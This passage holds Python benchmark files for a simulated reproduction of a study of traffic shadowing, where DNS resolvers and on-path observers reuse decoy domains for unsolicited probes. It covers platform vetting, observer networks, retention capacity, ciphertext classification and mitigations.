    hierarchy.add_tld("domain", "192.12.94.30")
    hierarchy.add_zone(ZONE, "203.0.113.10", wildcard_target="203.0.113.11")
    observed = []
    resolver = IterativeResolver(hierarchy, egress_address="100.88.0.53",
                                 qname_minimization=minimize,
                                 observer=observed.append)
    rng = random.Random(31)
    for index, client in enumerate(CLIENTS):
        identity = DecoyIdentity(sent_at=index, vp_address=client,
                                 dst_address="8.8.8.8", ttl=64, sequence=index)
        resolver.resolve(f"{CODEC.encode(identity)}.{ZONE}")
    return observed


def test_ext_resolver_authoritative_path(benchmark):
    minimized = benchmark(run_chain, True)
    plain = run_chain(False)

    def full_name_exposure(queries):
        upstream = [query for query in queries
                    if query.server_role in ("root", "tld")]
        exposed = sum(1 for query in upstream if query.qname.endswith(ZONE)
                      and query.qname != ZONE)
        return exposed, len(upstream)

    exposed_min, upstream_min = full_name_exposure(minimized)
    exposed_plain, upstream_plain = full_name_exposure(plain)
    client_addresses = {client for client in CLIENTS}
    leaked_clients = sum(
        1 for query in minimized + plain
        if query.source_address in client_addresses
    )

    emit("ext_resolver_auth_path", "\n".join([
        "Extension: the resolver-authoritative leg (Appendix E)",
        f"{len(CLIENTS)} decoy names resolved through root -> TLD -> authoritative",
        f"full decoy name visible to root/TLD with QNAME minimization: "
        f"{exposed_min}/{upstream_min} queries",
        f"                         without minimization: "
        f"{exposed_plain}/{upstream_plain} queries",
        f"client addresses visible anywhere on the leg: {leaked_clients} "
        f"(every query carries the resolver egress)",
        "Both of the paper's reasons why this leg is unattractive to",
        "shadowing exhibitors hold structurally.",
    ]))

    assert exposed_min == 0
    assert exposed_plain == upstream_plain
    assert leaked_clients == 0

"""Extension — ciphertext-metadata observer cost and matrix latency.

Two numbers the encrypted-transport pack adds to the perf trajectory,
recorded to ``benchmarks/out/BENCH_ciphertext.json``:

* **Classification throughput** — flows/second through one
  :class:`~repro.observers.ciphertext.CiphertextObserver` tap (TLS
  framing walk + size/timing score + destination correlation), the
  per-packet cost every observed hop pays.
* **Matrix render latency** — wall time for ``full_report`` on a
  ciphertext-enabled campaign versus the same campaign's accumulator
  snapshot/restore round-trip, the cost the matrix adds to reporting.

The artifact also pins the matrix row shape for the bench config, so a
drift in cell values shows up in review next to the timing numbers.

Smoke mode (``REPRO_BENCH_SMOKE=1``): fewer flows, same shape.
"""

import json
import os
import pathlib
import random
import time

from repro.analysis.paperreport import full_report
from repro.analysis.streaming import MitigationMatrixAccumulator
from repro.core.config import ExperimentConfig
from repro.core.experiment import Experiment
from repro.core.shard import result_digest
from repro.net.packet import Packet
from repro.net.path import Hop
from repro.observers.ciphertext import (
    CiphertextObserver,
    DstIpCorrelator,
    TrafficClassifier,
    size_templates,
)
from repro.protocols.tls import ClientHello, wrap_handshake
from repro.simkit.rng import SubstreamFactory

OUT_DIR = pathlib.Path(__file__).parent / "out"
ARTIFACT = OUT_DIR / "BENCH_ciphertext.json"

BENCH_SEED = 20240301
SMOKE = os.environ.get("REPRO_BENCH_SMOKE") == "1"
ZONE = "www.experiment.domain"

FLOW_COUNT = 2_000 if SMOKE else 50_000


def _merge_artifact(update: dict) -> None:
    existing = {}
    if ARTIFACT.exists():
        try:
            existing = json.loads(ARTIFACT.read_text())
        except ValueError:
            existing = {}
    existing.update(update)
    OUT_DIR.mkdir(exist_ok=True)
    ARTIFACT.write_text(json.dumps(existing, indent=2, sort_keys=True) + "\n")


def _synthetic_flows(count: int):
    """Pre-built packets so the timed loop measures the observer only."""
    draw = random.Random(BENCH_SEED)
    packets = []
    for index in range(count):
        label = "".join(draw.choices("abcdefgh234567", k=29))
        payload = wrap_handshake(
            ClientHello(server_name=f"{label}.{ZONE}",
                        random=bytes(32)).encode())
        packets.append(Packet.tcp(
            src=f"100.96.{draw.randrange(0, 200)}.{draw.randrange(1, 250)}",
            dst=f"203.0.113.{draw.randrange(1, 250)}",
            ttl=64, src_port=40000 + index % 1000, dst_port=443,
            payload=payload + bytes(draw.randrange(0, 64))))
    return packets


def test_ext_ciphertext_classification_throughput():
    hop = Hop(address="100.64.9.9", asn=4134, country="CN")
    clock_value = [0.0]

    def clock():
        clock_value[0] += 0.5
        return clock_value[0]

    observer = CiphertextObserver(
        hop=hop,
        classifier=TrafficClassifier(
            size_templates(ZONE), threshold=0.6, fpr=0.02,
            streams=SubstreamFactory(BENCH_SEED, "ciphertext.classify")),
        correlator=DstIpCorrelator(link_threshold=3),
        clock=clock)
    packets = _synthetic_flows(FLOW_COUNT)

    started = time.perf_counter()
    for packet in packets:
        observer.tap(1, hop, packet)
    elapsed = time.perf_counter() - started

    assert observer.flows_seen == FLOW_COUNT
    assert observer.flows_classified > 0
    _merge_artifact({"classification": {
        "flows": FLOW_COUNT,
        "seconds": round(elapsed, 3),
        "flows_per_sec": round(FLOW_COUNT / elapsed, 1),
        "classified": observer.flows_classified,
        "flagged_destinations": len(
            observer.correlator.flagged_destinations()),
        "smoke": SMOKE,
    }})


def test_ext_ciphertext_matrix_render_latency():
    config = ExperimentConfig.tiny(seed=BENCH_SEED)
    config.doh_adoption = 0.4
    config.ech_adoption = 0.5
    config.ciphertext_observer_share = 0.6
    config.ciphertext_fpr = 0.02
    config.nod_noise_rate = 0.2
    result = Experiment(config).run()
    matrix = result.analysis.matrix

    started = time.perf_counter()
    report = full_report(result)
    render_seconds = time.perf_counter() - started
    assert "Mitigation vs observer class" in report

    started = time.perf_counter()
    restored = MitigationMatrixAccumulator.from_snapshot(matrix.snapshot())
    roundtrip_seconds = time.perf_counter() - started
    assert restored.rows() == matrix.rows()

    _merge_artifact({"matrix": {
        "result_digest": result_digest(result),
        "rows": [[mitigation, sent, sorted(cells.items())]
                 for mitigation, sent, cells in matrix.rows()],
        "report_seconds": round(render_seconds, 4),
        "snapshot_roundtrip_seconds": round(roundtrip_seconds, 4),
    }})

"""Extension — the limited-storage hypothesis behind Figure 7.

Section 5.2 links observer location to retention: wire observers (routing
devices) re-use data sooner than destination operators, "possibly due to
the limited storage capacity of routing devices serving as traffic
observers".  This bench makes the hypothesis mechanical: the same shadow
policy run with an unbounded store vs a small FIFO buffer under
continuous observation pressure, comparing realized delay CDFs.
"""

import random

from conftest import emit

from repro.analysis.report import percent
from repro.analysis.temporal import Cdf
from repro.analysis.stats import ks_distance
from repro.honeypot.deployment import HoneypotDeployment
from repro.intel.blocklist import Blocklist
from repro.intel.directory import IpDirectory
from repro.observers import RetentionStore, ShadowExhibitor, UnsolicitedEmitter
from repro.observers.policy import (
    AddressAllocator,
    OriginGroup,
    OriginPool,
    ShadowPolicy,
)
from repro.simkit.distributions import Constant, LogNormal
from repro.simkit.events import Simulator
from repro.simkit.units import DAY, HOUR

ZONE = "www.experiment.domain"
OBSERVATIONS = 600
ARRIVAL_SPACING = 60.0  # one observed name per minute


def run_observer(capacity):
    sim = Simulator()
    deployment = HoneypotDeployment(zone=ZONE)
    pool = OriginPool(
        "vendor", [OriginGroup(4134, "CN", 1.0, 0.0)],
        AddressAllocator(), IpDirectory(), Blocklist(), random.Random(5),
    )
    policy = ShadowPolicy(
        name="dpi-box",
        delay=LogNormal(median=8 * HOUR, sigma=1.0),
        uses=Constant(2),
        protocol_weights={"dns": 1.0},
        origin_pool=pool,
    )
    store = RetentionStore(capacity=capacity)
    exhibitor = ShadowExhibitor(
        policy, sim, UnsolicitedEmitter(deployment, sim, random.Random(6)),
        random.Random(7), retention=store,
    )
    observed_at = {}
    for index in range(OBSERVATIONS):
        domain = f"cap{index:04d}-0001.{ZONE}"
        observed_at[domain] = index * ARRIVAL_SPACING
        sim.schedule_at(
            observed_at[domain],
            lambda domain=domain: exhibitor.observe(domain, "100.64.5.5"),
        )
    sim.run(until=30 * DAY)
    # Steady-state view: the final buffer-full of observations never faces
    # eviction (arrivals stop), so both arms exclude that tail to compare
    # like with like.
    steady_cutoff = (OBSERVATIONS - 64) * ARRIVAL_SPACING
    delays = [entry.time - observed_at[entry.domain]
              for entry in deployment.log
              if entry.domain in observed_at
              and observed_at[entry.domain] < steady_cutoff]
    return Cdf.from_values(delays), store


def test_ext_retention_capacity(benchmark):
    unbounded_cdf, unbounded_store = run_observer(capacity=None)
    bounded_cdf, bounded_store = benchmark.pedantic(
        run_observer, args=(64,), rounds=1, iterations=1,
    )

    distance = ks_distance(unbounded_cdf, bounded_cdf)
    emit("ext_retention_capacity", "\n".join([
        "Extension: limited observer storage shortens realized retention",
        f"unbounded store: {len(unbounded_cdf)} unsolicited requests, "
        f"{percent(unbounded_cdf.at(6 * HOUR))} within 6h, "
        f"{percent(unbounded_cdf.at(DAY))} within 1 day",
        f"64-slot buffer: {len(bounded_cdf)} requests "
        f"({bounded_store.evictions} evictions, "
        f"{bounded_store.cancelled_requests} cancelled), "
        f"{percent(bounded_cdf.at(6 * HOUR))} within 6h, "
        f"{percent(bounded_cdf.at(DAY))} within 1 day",
        f"KS distance between the two delay CDFs: {distance:.2f}",
        "Same policy, same traffic: the Figure 7 'shorter on the wire'",
        "shape emerges from buffer eviction alone.",
    ]))

    assert unbounded_store.evictions == 0
    assert bounded_store.evictions > 400
    # Under pressure, the buffer holds ~64 minutes of data, so every
    # surviving request fired within roughly that window.
    assert bounded_cdf.at(2 * HOUR) > 0.95
    assert bounded_cdf.at(6 * HOUR) > unbounded_cdf.at(6 * HOUR) + 0.2
    assert distance > 0.2

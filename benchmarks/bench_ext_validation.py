"""Extension — validating the methodology against simulation ground truth.

The field study can never know what it missed; the simulation can.  Every
exhibitor records what it actually leveraged, so this bench computes the
decoy-honeypot methodology's recall (how much planted shadowing the
pipeline recovered) and precision (whether anything was flagged without a
real cause behind it).
"""

from conftest import emit

from repro.analysis.report import percent
from repro.analysis.validation import validate


def test_ext_ground_truth_validation(benchmark, result):
    report = benchmark(
        validate,
        result.eco.ground_truth, result.phase1, result.phase2,
        result.ledger, result.config.observation_window,
    )

    emit("ext_validation", "\n".join([
        "Extension: methodology validation against ground truth",
        f"decoy domains actually leveraged by exhibitors: {report.planted_domains}",
        f"  recovered by the pipeline: {report.recovered_domains} "
        f"(recall {percent(report.recall)})",
        f"  flags with no explaining cause: {report.false_domains} "
        f"(precision {percent(report.exhibitor_precision)})",
        f"  flags from benign resolver behaviour only: "
        f"{report.benign_only_domains} (retries/refreshes — unsolicited by "
        "definition, but not covert shadowing)",
        "Unrecovered domains are those whose unsolicited requests were",
        "scheduled beyond the honeypots' listening window — the same",
        "truncation a real deployment faces.",
    ]))

    assert report.planted_domains > 100
    assert report.recall > 0.6
    assert report.false_domains == 0

"""Appendix E — mitigating noise: platform vetting.

Paper: VPs behind DNS interception are detected by pair-resolver probes
(an address in the target's /24 with no DNS service must not answer) and
removed before Phase I; providers that reset outgoing TTLs are excluded
outright.  The bench runs vetting over a platform seeded with both kinds
of offender and verifies the filters catch them.
"""

from conftest import emit

import pytest

from repro.analysis.report import percent, render_table
from repro.core.campaign import Campaign
from repro.core.config import ExperimentConfig
from repro.core.ecosystem import build_ecosystem
from repro.datasets.providers import ALL_PROVIDERS, VpnProvider
from repro.simkit.rng import RandomRouter
from repro.vpn.platform import VpnPlatform


def run_vetting():
    config = ExperimentConfig.tiny(seed=424242)
    eco = build_ecosystem(config)
    # Seed the platform with a TTL-resetting provider that slipped through
    # procurement, as Appendix E's field test would encounter.
    offender = VpnProvider("ResetterVPN", "global", "https://example", 0.10,
                           resets_ttl=True)
    eco.platform.__init__(  # rebuild with the offender included
        RandomRouter(config.seed), vp_scale=config.vp_scale,
        providers=list(ALL_PROVIDERS) + [offender],
    )
    campaign = Campaign(eco)
    report = campaign.vet_platform()
    return eco, report


def test_appendix_e_platform_vetting(benchmark):
    eco, report = benchmark(run_vetting)

    total = len(report.kept) + report.removed
    emit("appE_vetting", "\n".join([
        "Appendix E: platform vetting",
        f"vantage points recruited:        {total}",
        f"  removed (TTL-reset provider):  {len(report.removed_ttl_reset)}",
        f"  removed (pair-resolver filter): {len(report.removed_intercepted)}",
        f"  kept for Phase I:              {len(report.kept)} "
        f"({percent(len(report.kept) / total)})",
    ]))

    # Every ResetterVPN node is gone.
    assert report.removed_ttl_reset
    assert all(vp.provider == "ResetterVPN" for vp in report.removed_ttl_reset)
    assert all(vp.provider != "ResetterVPN" for vp in report.kept)
    # The interceptor deployment catches at least one VP at default rates.
    assert report.removed_intercepted
    # Removed-for-interception VPs really do sit behind interceptors.
    campaign = Campaign(eco)
    for vp in report.removed_intercepted:
        assert campaign._pair_probe(vp, "1.1.1.4")

"""Table 3 — top networks of on-path traffic observers.

Paper: HTTP/TLS observers dominated by Chinanet (AS4134 44%/54%) plus
provincial CN networks; the few DNS observers sit in HostRoyale
(AS203020), China Unicom Beijing (AS4808), and Zenlayer (AS21859); 79% of
all observer IPs are in CN.
"""

from conftest import emit

from repro.analysis.origins import observer_country_counts, top_observer_ases
from repro.analysis.report import percent, render_table


def test_table3_top_observer_networks(benchmark, result):
    rows = benchmark(top_observer_ases, result.locations, 3)

    emit("table3_observer_ases", render_table(
        ("Decoy", "AS", "Network", "Observer IPs", "Share"),
        [(row.protocol.upper(), f"AS{row.asn}", row.as_name[:44],
          row.observers, percent(row.share)) for row in rows],
        title="Table 3: Top networks of on-path traffic observers "
              "(paper: AS4134 CHINANET dominates HTTP 44% / TLS 54%)",
    ))

    http_top = next(row for row in rows if row.protocol == "http")
    assert http_top.asn == 4134
    assert http_top.share > 0.25
    tls_rows = [row for row in rows if row.protocol == "tls"]
    assert tls_rows, "Phase II must reveal on-path TLS observers"
    # The Chinanet family (backbone + provincial backbones) dominates TLS.
    assert tls_rows[0].asn in (4134, 23650, 4812)
    dns_asns = {row.asn for row in rows if row.protocol == "dns"}
    assert dns_asns <= {203020, 4808, 21859}

    countries = observer_country_counts(result.locations)
    total = sum(countries.values())
    assert countries.get("CN", 0) / total >= 0.5  # paper: 79%

"""Table 6 — capabilities and comparison of measurement platforms.

The paper surveys 12 platform options and shows only a purpose-built VPN
platform meets the methodology's requirements (volunteer-free,
non-residential, DNS/HTTP/TLS messages with customizable IP TTL, broad AS
coverage)."""

from conftest import emit

from repro.analysis.report import render_table
from repro.vpn.survey import PLATFORM_SURVEY, meets_requirements, survey_rows


def evaluate_survey():
    return survey_rows()


def flag(value):
    if value is True:
        return "Y"
    if value == "partial":
        return "~"
    if value is False:
        return "N"
    return "?"


def test_table6_platform_survey(benchmark):
    rows = benchmark(evaluate_survey)
    emit("table6_survey", render_table(
        ("Category", "Platform", "VolFree", "Resi", "VPs", "CC", "AS",
         "DNS", "HTTP", "TLS", "TTL", "OK?"),
        [
            (row["category"], row["platform"], flag(row["volunteer_free"]),
             flag(row["residential"]), row["vps"] or "?", row["countries"] or "?",
             row["ases"] or "?", flag(row["dns"]), flag(row["http"]),
             flag(row["tls"]), flag(row["custom_ttl"]),
             "Y" if row["meets_requirements"] else "N")
            for row in rows
        ],
        title="Table 6: Capabilities and comparison of measurement platforms",
    ))
    verdicts = {row["platform"]: row["meets_requirements"] for row in rows}
    assert verdicts["This work"]
    assert not verdicts["Tor"]
    assert not verdicts["RIPE Atlas"]
    assert sum(verdicts.values()) <= 2  # essentially only this work qualifies

"""Performance — always-on service ingest throughput and report cache.

Replays a completed campaign through a :class:`MeasurementService` the
way ``repro feed`` would (registration batch, then time-ordered data
batches) and records to ``benchmarks/out/BENCH_serve.json``:

* ingest throughput (honeypot log records folded per second, decoys
  registered per second) — the daemon's hot path;
* report-cache behavior: cold-render latency vs cached-hit latency,
  and the hit ratio over a polling-reader access pattern;
* the digest cross-check proving live ingest reproduced the batch
  analysis exactly (the numbers are only meaningful if it did).

The ingest-rate and cache-hit-ratio figures mirror what the daemon's
``/campaigns/<id>/telemetry`` endpoint exposes at runtime — the
artifact pins the same counters at bench scale.

Smoke mode (``REPRO_BENCH_SMOKE=1``): the tiny config, proving the
bench executes end to end.
"""

import json
import os
import pathlib
import time

from repro.core.config import ExperimentConfig
from repro.core.experiment import Experiment
from repro.serve.feed import feed_batches_from_result
from repro.serve.service import MeasurementService

OUT_DIR = pathlib.Path(__file__).parent / "out"
ARTIFACT = OUT_DIR / "BENCH_serve.json"

BENCH_SEED = 20240301
SMOKE = os.environ.get("REPRO_BENCH_SMOKE") == "1"
BATCH_SIZE = 500
POLL_READS = 200
"""Report reads issued against the settled service — a polling reader's
access pattern, so all but the first read of each version are hits."""


def _config() -> ExperimentConfig:
    if SMOKE:
        return ExperimentConfig.tiny(seed=BENCH_SEED)
    return ExperimentConfig.medium(seed=BENCH_SEED)


def test_serve_ingest_throughput_and_cache():
    result = Experiment(_config()).run()
    campaign = "bench"
    batches = list(feed_batches_from_result(result, campaign,
                                            batch_size=BATCH_SIZE))

    service = MeasurementService()
    started = time.perf_counter()
    for batch in batches:
        service.ingest(batch)
    ingest_seconds = time.perf_counter() - started
    session = service.session(campaign)

    # The throughput number is only meaningful if live ingest computed
    # the batch analysis exactly.
    assert session.digest() == result.analysis.digest(), \
        "live-ingested state diverged from the batch analysis"

    cold_start = time.perf_counter()
    _, _, version = session.report()
    cold_seconds = time.perf_counter() - cold_start
    assert version == 1

    hit_start = time.perf_counter()
    for _ in range(POLL_READS):
        _, _, version = session.report()
    hit_seconds = (time.perf_counter() - hit_start) / POLL_READS
    assert version == 1, "cached reads must not re-render"

    telemetry = service.telemetry(campaign)
    assert telemetry["report"]["cache_hits"] == POLL_READS
    assert telemetry["report"]["cache_misses"] == 1

    log_records = len(result.log)
    decoys = len(result.ledger)
    artifact = {
        "bench": "serve_ingest",
        "mode": "smoke" if SMOKE else "medium",
        "seed": BENCH_SEED,
        "cpu_count": os.cpu_count(),
        "digest": session.digest(),
        "ingest": {
            "batches": len(batches),
            "batch_size": BATCH_SIZE,
            "decoys": decoys,
            "log_records": log_records,
            "locations": len(result.locations),
            "seconds": round(ingest_seconds, 3),
            "records_per_sec": round(log_records / ingest_seconds, 1),
            "decoys_per_sec": round(decoys / ingest_seconds, 1),
            "telemetry_records_per_sec": round(
                telemetry["ingest"]["records_per_second"], 1),
        },
        "report_cache": {
            "cold_render_seconds": round(cold_seconds, 6),
            "cache_hit_seconds": round(hit_seconds, 9),
            "hit_vs_cold_speedup": round(cold_seconds / hit_seconds, 1)
            if hit_seconds > 0 else None,
            "hits": telemetry["report"]["cache_hits"],
            "misses": telemetry["report"]["cache_misses"],
            "hit_ratio": round(telemetry["report"]["cache_hit_ratio"], 4),
        },
    }
    OUT_DIR.mkdir(exist_ok=True)
    ARTIFACT.write_text(json.dumps(artifact, indent=2, sort_keys=True) + "\n")

    print(f"\nserve ingest: {artifact['ingest']['records_per_sec']:,} "
          f"records/s over {len(batches)} batches; report cache hit "
          f"{artifact['report_cache']['cache_hit_seconds'] * 1e6:.1f}us vs "
          f"{artifact['report_cache']['cold_render_seconds'] * 1e3:.1f}ms "
          f"cold ({artifact['report_cache']['hit_ratio']:.1%} hit ratio)")

"""Figure 5 — breakdown of DNS decoys per destination resolver, grouped by
protocol combination and latency bucket.

Paper shapes: resolvers beyond Resolver_h produce only DNS-DNS repeats,
mostly within the hour; ~50% of decoys to Yandex/114DNS trigger HTTP or
HTTPS after hours or days; >99% of Yandex decoys are shadowed.
"""

from conftest import emit

from repro.analysis.combos import decoy_breakdown, http_https_share, shadowed_share
from repro.analysis.report import percent, render_table
from repro.datasets.resolvers import RESOLVER_H_NAMES


def test_fig5_decoy_breakdown(benchmark, result):
    rows = benchmark(decoy_breakdown, result.ledger, result.phase1.events)

    display = [row for row in rows if row.decoys >= 3]
    emit("fig5_combos", render_table(
        ("Destination", "Combo", "Latency", "Decoys", "Share of sent"),
        [(row.destination_name, row.combo, row.latency_bucket, row.decoys,
          percent(row.share_of_sent)) for row in display[:60]],
        title="Figure 5: DNS decoys per destination by protocol combination "
              "and latency bucket",
    ) + "\n\n" + render_table(
        ("Destination", "Shadowed", "Drew HTTP/HTTPS"),
        [(name,
          percent(shadowed_share(result.ledger, result.phase1.events, name)),
          percent(http_https_share(result.ledger, result.phase1.events, name)))
         for name in RESOLVER_H_NAMES],
        title="Per-destination decoy outcomes (paper: Yandex >99% shadowed; "
              "Yandex/114DNS ~50% trigger HTTP/HTTPS)",
    ))

    assert shadowed_share(result.ledger, result.phase1.events, "Yandex") > 0.95
    yandex_http = http_https_share(result.ledger, result.phase1.events, "Yandex")
    assert 0.3 < yandex_http < 0.85

    # Non-Resolver_h resolvers: only DNS-DNS combos.
    resolver_h = set(RESOLVER_H_NAMES)
    dns_cloud_overrides = {"DNSPod", "OracleDyn", "OpenNIC"}  # on-path DNS observers
    for row in rows:
        if (row.destination_name not in resolver_h
                and row.destination_name not in dns_cloud_overrides):
            assert row.combo == "DNS-DNS", row

    # HTTP(S) from Resolver_h only in the later buckets.
    for row in rows:
        if row.combo in ("DNS-HTTP", "DNS-HTTPS") and \
                row.destination_name in resolver_h:
            assert row.latency_bucket in ("<1d", ">=1d")

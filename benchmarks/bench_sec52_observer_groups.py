"""Section 5.2 (in-text) — HTTP/TLS shadowing grouped by observer AS.

Paper: the top 5 observer ASes account for >80% of shadowing behaviours;
protocol combinations differ per network (AS4134 HTTP decoys: 66% HTTP /
17% HTTPS unsolicited; AS29988 emits DNS only); AS40444 and AS29988
trigger unsolicited DNS queries exclusively from their own ASes.
"""

from conftest import emit

from repro.analysis.origins import observer_as_groups
from repro.analysis.report import percent, render_table


def test_sec52_observer_as_groups(benchmark, result):
    groups = benchmark(observer_as_groups, result.locations,
                       result.phase1.events, result.eco.directory)

    emit("sec52_observer_groups", render_table(
        ("Observer AS", "Paths", "Share", "Same-AS origins", "Combos"),
        [
            (f"AS{group.asn} {group.as_name[:26]}", group.paths,
             percent(group.share_of_all_paths),
             percent(group.same_as_origin_share),
             ", ".join(f"{combo} {percent(share, 0)}"
                       for combo, share in sorted(
                           group.combo_shares.items(),
                           key=lambda item: -item[1])[:3]))
            for group in groups
        ],
        title="Section 5.2: HTTP/TLS shadowing grouped by observer AS "
              "(paper: top 5 cover >80%)",
    ))

    assert groups
    top5 = sum(group.share_of_all_paths for group in groups[:5])
    assert top5 > 0.6  # paper: >80%

    by_asn = {group.asn: group for group in groups}
    assert 4134 in by_asn
    chinanet = by_asn[4134]
    # Chinanet-observed decoys favour HTTP(S) re-probing.
    http_like = sum(share for combo, share in chinanet.combo_shares.items()
                    if combo.endswith("HTTP") or combo.endswith("HTTPS"))
    assert http_like > 0.5
    # Same-network origins are a sizable share for Chinanet.
    assert chinanet.same_as_origin_share > 0.2

    for asn in (40444, 29988):
        if asn in by_asn:
            group = by_asn[asn]
            assert set(group.combo_shares) <= {"HTTP-DNS", "TLS-DNS"}
            assert group.same_as_origin_share == 1.0

"""Section 5.1 (in-text) — HTTP and HTTPS probing incentives after DNS
decoys.

Paper: ~95% of unsolicited HTTP requests perform path enumeration against
the honey website; no exploit payloads appear; 57% of HTTP and 72% of
HTTPS origin addresses are on the Spamhaus blocklist.
"""

from conftest import emit

from repro.analysis.payloads import incentive_report
from repro.analysis.report import percent, render_table


def test_sec51_probing_incentives(benchmark, result):
    report = benchmark(incentive_report, result.phase1.events,
                       result.eco.blocklist, "dns")

    emit("sec51_incentives", "\n".join([
        "Section 5.1: probing incentives of HTTP(S) requests after DNS decoys",
        f"unsolicited HTTP(S) requests analyzed: {report.requests}",
        f"  path enumeration: {percent(report.enumeration_share)} (paper: ~95%)",
        f"  exploit payloads: {percent(report.exploit_share)} (paper: none)",
        f"  root-page fetches: {percent(report.root_share)}",
        f"  HTTP origins blocklisted:  {percent(report.blocklist_rate_http)} "
        "(paper: 57%)",
        f"  HTTPS origins blocklisted: {percent(report.blocklist_rate_https)} "
        "(paper: 72%)",
        "",
        render_table(("probed path", "hits"), report.top_paths,
                     title="Most-enumerated honeypot paths"),
    ]))

    assert report.requests > 50
    assert report.enumeration_share > 0.85
    assert report.exploit_share == 0.0
    assert 0.3 < report.blocklist_rate_http < 0.8
    assert 0.45 < report.blocklist_rate_https < 0.95
    assert report.blocklist_rate_https > report.blocklist_rate_http

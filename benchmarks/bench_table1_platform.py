"""Table 1 — capabilities of the VPN measurement platform.

Paper: 19 providers, 4,364 VPs, 121 ASes, 82 countries (global 2,179 VPs /
74 AS / 81 countries; CN 2,185 VPs / 47 AS / 30 provinces).  The bench
builds the platform at full paper scale and prints the same three rows;
the benchmarked operation is platform construction itself.
"""

from conftest import emit

from repro.analysis.report import render_table
from repro.simkit.rng import RandomRouter
from repro.vpn.platform import VpnPlatform


def build_full_platform() -> VpnPlatform:
    return VpnPlatform(RandomRouter(20240301), vp_scale=1.0)


def test_table1_platform_capabilities(benchmark):
    platform = benchmark(build_full_platform)
    rows = platform.summary()
    emit("table1_platform", render_table(
        ("#", "Provider", "IP", "AS", "Country/Province"),
        [(row.label, row.providers, row.vps, row.ases, row.countries)
         for row in rows],
        title="Table 1: Capabilities of VPN measurement platform "
              "(paper: 6/2179/74/81, 13/2185/47/30, 19/4364/121/82)",
    ))
    total = rows[2]
    assert total.providers == 19
    assert 4000 < total.vps < 4800
    assert total.countries >= 70

"""Figure 3 — ratio of client-server paths subject to traffic shadowing.

Paper shapes to hold: DNS decoys far more susceptible than HTTP/TLS;
>70% of paths to Yandex/114DNS/OneDNS problematic; 114DNS high only from
CN vantage points; roots/TLDs/self-built resolver clean; HTTP/TLS ratios
elevated for CN-related paths but below 10% overall.
"""

from conftest import emit

from repro.analysis.landscape import (
    destination_ratio_summary,
    problematic_path_ratios,
    vp_country_ratio_summary,
)
from repro.analysis.report import percent, render_table
from repro.datasets.resolvers import RESOLVER_H_NAMES


def test_fig3_problematic_path_ratios(benchmark, result):
    rows = benchmark(problematic_path_ratios, result.ledger, result.phase1.events)

    dns = destination_ratio_summary(rows, "dns")
    ranked = sorted(dns.items(), key=lambda item: -item[1])
    lines = [render_table(
        ("DNS destination", "problematic paths"),
        [(name, percent(ratio)) for name, ratio in ranked[:12]],
        title="Figure 3 (DNS): per-destination problematic-path ratio",
    )]

    # 114DNS split by VP country (Case Study II).
    cn_rows = [row for row in rows if row.destination_name == "114DNS"
               and row.protocol == "dns"]
    cn = sum(row.paths_problematic for row in cn_rows if row.vp_country == "CN")
    cn_total = sum(row.paths_total for row in cn_rows if row.vp_country == "CN")
    other = sum(row.paths_problematic for row in cn_rows if row.vp_country != "CN")
    other_total = sum(row.paths_total for row in cn_rows if row.vp_country != "CN")
    lines.append(
        f"114DNS from CN VPs: {percent(cn / cn_total if cn_total else 0)} "
        f"(paper: ~85%); from global VPs: "
        f"{percent(other / other_total if other_total else 0)} (paper: low)"
    )

    for protocol in ("http", "tls"):
        by_country = vp_country_ratio_summary(rows, protocol)
        overall_total = sum(row.paths_total for row in rows if row.protocol == protocol)
        overall_bad = sum(row.paths_problematic for row in rows if row.protocol == protocol)
        cn_ratio = by_country.get("CN", 0.0)
        lines.append(
            f"{protocol.upper()} overall problematic ratio: "
            f"{percent(overall_bad / overall_total if overall_total else 0)} "
            f"(paper: <10%); from CN VPs: {percent(cn_ratio)} (paper: elevated)"
        )
    emit("fig3_landscape", "\n\n".join(lines))

    # Shape assertions.
    for name in ("Yandex", "OneDNS"):
        assert dns[name] > 0.7, f"{name} should exceed 70% problematic paths"
    assert dns["SelfBuilt"] == 0.0
    assert all(dns[name] == 0.0 for name in dns if "root" in name or "tld" in name)
    # Case Study II shape: the CN-VP ratio towers over the global one —
    # globally only benign sub-minute retries remain, while CN instances
    # shadow (the residual global ratio is retry noise, present in the
    # paper's Figure 3 for most resolvers as well).
    assert cn_total and cn / cn_total > 0.7
    assert other_total == 0 or other / other_total < (cn / cn_total) / 2
    http_total = sum(row.paths_total for row in rows if row.protocol == "http")
    http_bad = sum(row.paths_problematic for row in rows if row.protocol == "http")
    assert http_bad / http_total < 0.45  # far below DNS susceptibility
    assert http_bad / http_total < max(dns[name] for name in RESOLVER_H_NAMES)

"""Ablation — what happens without the Appendix E pair-resolver filter?

DESIGN.md calls out the pair-resolver filter as a load-bearing design
choice: interception devices near clients answer decoy queries through
alternative resolvers, injecting DNS-DNS noise attributed to the wrong
place.  This bench runs the same tiny campaign with the filter on and
off and quantifies the pollution.
"""

from conftest import emit

from repro.analysis.report import percent
from repro.core.config import ExperimentConfig
from repro.core.experiment import Experiment


def run_pair(filter_on: bool):
    config = ExperimentConfig.tiny(seed=515151)
    config.pair_resolver_filter = filter_on
    return Experiment(config).run()


def alt_resolver_events(result):
    """Unsolicited DNS events whose origin is an interceptor's alternative
    resolver — pure interception noise."""
    noise = []
    for event in result.phase1.events:
        record = result.eco.directory.lookup(event.origin_address)
        if record is not None and record.role == "alt-resolver":
            noise.append(event)
    return noise


def test_ablation_pair_resolver_filter(benchmark):
    filtered = run_pair(True)
    unfiltered = benchmark.pedantic(run_pair, args=(False,), rounds=1,
                                    iterations=1)

    noise_on = alt_resolver_events(filtered)
    noise_off = alt_resolver_events(unfiltered)
    share_off = (len(noise_off) / len(unfiltered.phase1.events)
                 if unfiltered.phase1.events else 0.0)
    emit("ablation_pair_filter", "\n".join([
        "Ablation: pair-resolver interception filter",
        f"filter ON : kept VPs {len(filtered.vetting.kept)}, "
        f"interception-noise events: {len(noise_on)}",
        f"filter OFF: kept VPs {len(unfiltered.vetting.kept)}, "
        f"interception-noise events: {len(noise_off)} "
        f"({percent(share_off)} of all unsolicited events)",
        "Without the filter, interception noise masquerades as DNS-DNS",
        "shadowing and pollutes every DNS analysis downstream.",
    ]))

    assert noise_on == []
    assert noise_off, "unfiltered campaign must exhibit interception noise"
    assert len(unfiltered.vetting.kept) > len(filtered.vetting.kept)

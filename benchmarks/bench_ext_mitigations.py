"""Extension — Section 6 mitigations, quantified on the same substrate.

The paper's discussion recommends (i) TLS 1.3 ECH to hide SNI from wire
observers, noting it does *not* stop the terminating destination, and
(ii) oblivious relays to split who-asked from what-was-asked.  This bench
